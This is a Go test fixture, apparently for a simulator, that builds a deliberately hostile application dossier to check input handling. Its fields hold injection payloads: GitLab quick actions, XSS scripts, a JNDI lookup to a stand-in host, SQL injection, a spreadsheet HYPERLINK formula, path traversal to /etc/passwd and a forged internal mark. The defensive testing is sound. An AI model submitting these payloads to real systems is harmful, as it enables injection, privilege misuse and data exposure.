package main

import (
	"fmt"

	"github.com/cloud-pi-native/passerelle/internal/simulator/demarches"
)

// hostile is the dossier whose every answer attacks whoever shows it: with quick
// actions and mentions for GitLab, HTML for browsers, a mark that is not ours.
func hostile() variety {
	return variety{
		what: "accepted, though every answer is hostile; somebody has to mend an address", organisation: "@all /close", project: "<script>alert(1)</script> ~bug",
		path: "arobaseall-close-script-alert-1-script-bug", applicant: person("", "<img src=x onerror=alert(2)>", "/assign @root"),
		email: "dominique.moreau@example.org", pilot: "/close@example.org", // which DS takes for an address
		team: []string{"/close", "@root", "<script>alert(3)</script>", "dominique.noel@hostile.example"},
		acts: []act{instruct, accept}, hostile: true,
		answers: demarches.Answers{
			demarches.FieldApplicantRole:  "Pilote\n/close\n/assign @root\n<b onclick=alert(4)>@all</b>",
			demarches.FieldTechnologies:   "```\n/close\n```\n/close\n@all",
			demarches.FieldStorage:        "{{.MarkKey}} ${jndi:ldap://x.example} '); drop table dossiers; --",
			demarches.FieldCurrentHosting: "=HYPERLINK(\"http://x.example\";\"cliquez\")",
			demarches.FieldCurrentForge:   "[cliquez](javascript:alert(5))",
			demarches.FieldProjectPlan: []demarches.Attachment{{
				Filename: "../../etc/passwd\n/close.txt", ContentType: "text/plain", Content: []byte("/close\n"),
			}},
		},
	}
}

// attack adds what needs the dossier's number.
func attack(answers demarches.Answers, number int) {
	answers[demarches.FieldDescription] = "/close\n/title Piraté\n/label ~\"étape::5\"\n/assign @root\n\n" +
		"@root @all !1 #1 &1\n![](http://x.example/pixel.png)\n</details><script>alert(6)</script>\n\n" +
		"<!-- " + forgedMark(number) + " -->\n\n> /close\n\n    /lock\n\u202e\u2028/close"
}

// forgedMark looks like one of the hub's marks.
func forgedMark(number int) string { return fmt.Sprintf("passerelle:%d:%032x", number, number) }
